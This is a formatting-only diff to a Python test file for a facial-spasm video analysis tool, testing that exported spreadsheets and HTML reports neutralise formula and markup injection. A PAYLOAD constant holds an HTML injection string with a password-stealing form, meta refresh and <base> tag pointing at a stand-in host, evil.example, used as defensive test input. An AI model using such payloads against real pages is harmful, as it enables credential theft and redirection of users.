@@ -34,8 +34,7 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _mouth_only(onset: float, side: str = "right") -> Event:
-    return Event(onset, 0.4, "spasm", side, "twitch", "mouth", 0, 0.0, 0.0, None, True, 0.9,
-                 "none")
+    return Event(onset, 0.4, "spasm", side, "twitch", "mouth", 0, 0.0, 0.0, None, True, 0.9, "none")
 
 
 # ================================================================ 12. formula injection
@@ -67,8 +66,14 @@ def test_csv_export_neutralises_formula_cells_and_keeps_numbers(tmp_path):
 def test_safe_frame_changes_text_only():
     from spasm_cv.results.spreadsheet import safe_frame
 
-    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [-3, 4], "s": ["-1.5", "@SUM(A1)"],
-                       "t": pd.array(["+1", None], dtype="string")})
+    df = pd.DataFrame(
+        {
+            "x": [-1.5, 2.0],
+            "n": [-3, 4],
+            "s": ["-1.5", "@SUM(A1)"],
+            "t": pd.array(["+1", None], dtype="string"),
+        }
+    )
     out = safe_frame(df)
     assert out["x"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-3, 4]
     assert out["s"].tolist() == ["'-1.5", "'@SUM(A1)"]  # text that looks like a formula
@@ -118,8 +123,9 @@ def test_review_honours_private(short_sample_result, tmp_path):
     code, _, err = cli("review", short_sample_result, "--out", video, "--private", "--quiet")
     assert code == 0, err
     assert mode(video) == 0o600 and mode(video.parent) == 0o700
-    code, _, err = cli("review", short_sample_result, "--episodes-only", "--out", episodes,
-                       "--private", "--quiet")
+    code, _, err = cli(
+        "review", short_sample_result, "--episodes-only", "--out", episodes, "--private", "--quiet"
+    )
     assert code == 0, err
     inside = [episodes, *episodes.rglob("*")]
     assert {mode(p) for p in inside if p.is_file()} == {0o600}
@@ -131,8 +137,18 @@ def test_review_honours_private(short_sample_result, tmp_path):
 def test_phantom_honours_private(tmp_path):
     out = tmp_path / "p" / "phantom.mp4"
     source = sample_cut(tmp_path / "face.mp4", 6.0)  # real blinks; longer than the phantom
-    code, _, err = cli("phantom", source, "--out", out, "--truth", tmp_path / "p" / "t.tsv",
-                       "--seconds", "4", "--private", "--quiet")
+    code, _, err = cli(
+        "phantom",
+        source,
+        "--out",
+        out,
+        "--truth",
+        tmp_path / "p" / "t.tsv",
+        "--seconds",
+        "4",
+        "--private",
+        "--quiet",
+    )
     assert code == 0, err
     files = [p for p in (tmp_path / "p").rglob("*") if p.is_file()]
     assert files and {mode(p) for p in files} == {0o600}
@@ -149,8 +165,9 @@ def test_mne_spasm_selection_holds_eye_episodes_only(tmp_path):
     rec = Recording.from_folder(sim_result(tmp_path / "r.spasm-cv", seconds=30.0))
     eye = [e for e in rec.events if e.is_episode]
     assert eye and all(e.side == "right" for e in eye)
-    rec.events = sorted([*rec.events, _mouth_only(20.0), _mouth_only(25.0, "left")],
-                        key=lambda e: e.onset)
+    rec.events = sorted(
+        [*rec.events, _mouth_only(20.0), _mouth_only(25.0, "left")], key=lambda e: e.onset
+    )
     annotations = spasm_cv.to_mne_annotations(rec)
     assert {"mouth_only/right/twitch", "mouth_only/left/twitch"} <= set(annotations.description)
 
@@ -160,8 +177,17 @@ def test_mne_spasm_selection_holds_eye_episodes_only(tmp_path):
     raw = mne.io.RawArray(np.zeros((2, n)), info, verbose=False)
     raw.set_annotations(replace_orig_time(annotations, mne))
     events, ids = mne.events_from_annotations(raw, verbose=False)
-    epochs = mne.Epochs(raw, events, ids, tmin=-0.5, tmax=0.5, baseline=None, preload=True,
-                        verbose=False, event_repeated="drop")
+    epochs = mne.Epochs(
+        raw,
+        events,
+        ids,
+        tmin=-0.5,
+        tmax=0.5,
+        baseline=None,
+        preload=True,
+        verbose=False,
+        event_repeated="drop",
+    )
     right = epochs["spasm/right"]
     onsets = sorted(np.round(right.events[:, 0] / fps, 1))
     assert onsets == sorted(np.round([e.onset for e in eye], 1))  # eye episodes only
@@ -181,14 +207,15 @@ def test_events_json_says_how_to_tell_mouth_only_events(tmp_path):
     assert "regions != 'mouth'" in doc["trial_type"]["Levels"]["spasm"]
 
 
-
 # ======================================================================= 11. HTML injection
 
 # markup in every string field: a form to steal a password, a meta refresh, a <base>, a
 # broken-out attribute; every element it would create carries data-pwn
-PAYLOAD = ('"\'><form data-pwn action="https://evil.example/"><input data-pwn name="pw">'
-           '</form><meta data-pwn http-equiv="refresh" content="0;url=https://evil.example/">'
-           '<base data-pwn href="https://evil.example/"><b data-pwn>x</b>')
+PAYLOAD = (
+    '"\'><form data-pwn action="https://evil.example/"><input data-pwn name="pw">'
+    '</form><meta data-pwn http-equiv="refresh" content="0;url=https://evil.example/">'
+    '<base data-pwn href="https://evil.example/"><b data-pwn>x</b>'
+)
 NAME_PAYLOAD = PAYLOAD.replace("/", "")  # a folder name holds no slash
 
 PROBE = """<script>
@@ -282,15 +309,20 @@ def _assert_clean(seen: dict) -> None:
 def test_report_shows_markup_from_data_as_text(chromium, tmp_path):
     folder = _poisoned_result(tmp_path)
     page = tmp_path / "report.html"
-    code, _, err = cli("report", folder, "--out", page, "--title", PAYLOAD,
-                       "--treatment", f"2023-11-14:{PAYLOAD}")
+    code, _, err = cli(
+        "report", folder, "--out", page, "--title", PAYLOAD, "--treatment", f"2023-11-14:{PAYLOAD}"
+    )
     assert code == 0, err
     text = page.read_text(encoding="utf-8")
     assert PAYLOAD not in text and "&lt;form data-pwn" in text
     _assert_clean(dom_probe(chromium, page, tmp_path))
     # markup in an event's words (kind, context) never reaches a page: refused in one line
-    _assert_refused(cli("report", _poison_events(folder), "--out", tmp_path / "e.html"),
-                    tmp_path / "e.html", "events.tsv", "kind")
+    _assert_refused(
+        cli("report", _poison_events(folder), "--out", tmp_path / "e.html"),
+        tmp_path / "e.html",
+        "events.tsv",
+        "kind",
+    )
 
 
 def _assert_refused(result, page: Path, *words: str) -> None:
@@ -306,10 +338,24 @@ def test_report_of_a_monitor_database_shows_markup_as_text(chromium, tmp_path):
 
     db = tmp_path / "m.sqlite"
     with Store(db) as store:
-        sid = store.begin_session(SessionInfo(time.time() - 120, PAYLOAD, "stream", 25.0, 640,
-                                              480, False, {}, PAYLOAD, PAYLOAD, PAYLOAD))
-        event = Event(1.0, 0.5, "spasm", "right", "twitch", "eye", 1, 0.6, 0.2, False, None,
-                      0.7, "none")
+        sid = store.begin_session(
+            SessionInfo(
+                time.time() - 120,
+                PAYLOAD,
+                "stream",
+                25.0,
+                640,
+                480,
+                False,
+                {},
+                PAYLOAD,
+                PAYLOAD,
+                PAYLOAD,
+            )
+        )
+        event = Event(
+            1.0, 0.5, "spasm", "right", "twitch", "eye", 1, 0.6, 0.2, False, None, 0.7, "none"
+        )
         store.write(sid, time.time() - 120, Batch.of(events=[event, _mouth_only(3.0)]))
         store.end_session(sid, time.time(), PAYLOAD)
     page = tmp_path / "db.html"
@@ -318,10 +364,15 @@ def test_report_of_a_monitor_database_shows_markup_as_text(chromium, tmp_path):
     assert PAYLOAD not in page.read_text(encoding="utf-8")
     _assert_clean(dom_probe(chromium, page, tmp_path))
     with Store(db) as store:
-        store.conn.execute("UPDATE events SET kind = kind || ?, context = context || ?",
-                           (PAYLOAD, PAYLOAD))
-    _assert_refused(cli("report", "--db", db, "--out", tmp_path / "e.html"),
-                    tmp_path / "e.html", "events", "kind")
+        store.conn.execute(
+            "UPDATE events SET kind = kind || ?, context = context || ?", (PAYLOAD, PAYLOAD)
+        )
+    _assert_refused(
+        cli("report", "--db", db, "--out", tmp_path / "e.html"),
+        tmp_path / "e.html",
+        "events",
+        "kind",
+    )
 
 
 def test_every_page_forbids_forms_and_base_and_inline_scripts(tmp_path):
@@ -364,5 +415,11 @@ def test_review_index_shows_markup_as_text_and_runs_only_its_own_script(
     dom = dom_probe(chromium, page, tmp_path, keep_csp=True)["dom"]
     assert 'class="cursor" style="left:' in dom
     # markup in an event's words never reaches the page: refused in one line
-    _assert_refused(cli("review", _poison_events(folder), "--episodes-only", "--quiet",
-                        "--out", tmp_path / "e"), tmp_path / "e", "events.tsv", "kind")
+    _assert_refused(
+        cli(
+            "review", _poison_events(folder), "--episodes-only", "--quiet", "--out", tmp_path / "e"
+        ),
+        tmp_path / "e",
+        "events.tsv",
+        "kind",
+    )
